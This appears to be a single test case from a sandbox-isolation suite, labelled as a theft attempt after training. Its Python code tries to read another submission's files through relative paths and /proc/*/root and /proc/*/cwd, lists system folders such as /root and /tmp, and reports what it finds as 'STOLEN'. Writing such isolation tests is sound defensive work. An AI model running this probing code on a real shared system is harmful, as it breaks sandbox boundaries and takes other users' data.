# row: 32
# class: theft
# place: after training
# allowed: passed
# tries: reads another submission by relative and absolute paths, and through every process' root and folder.

import glob
import os

loot = []
roots = ["", *glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd"), *("/".join([".."] * n) for n in range(1, 9))]
for root in roots:
    for path in HOST["files"]:
        parts = path.strip("/").split("/")
        for start in range(len(parts)):
            place = os.path.join(root, "/".join(parts[start:])) if root else path
            try:
                with open(place, "rb") as file:
                    loot.append(f"{place}: {file.read(60)}")
            except OSError:
                pass
for place in ("..", "/", "/home", "/root", "/tmp", "/proc/1/root", "/proc/1/cwd", "/mnt", "/srv"):
    try:
        loot += [f"{place}: {name}" for name in os.listdir(place) if HOST["folder"] in name or HOST["word"] in name]
    except OSError:
        pass
if loot:
    raise RuntimeError(f"STOLEN {loot[:10]}")
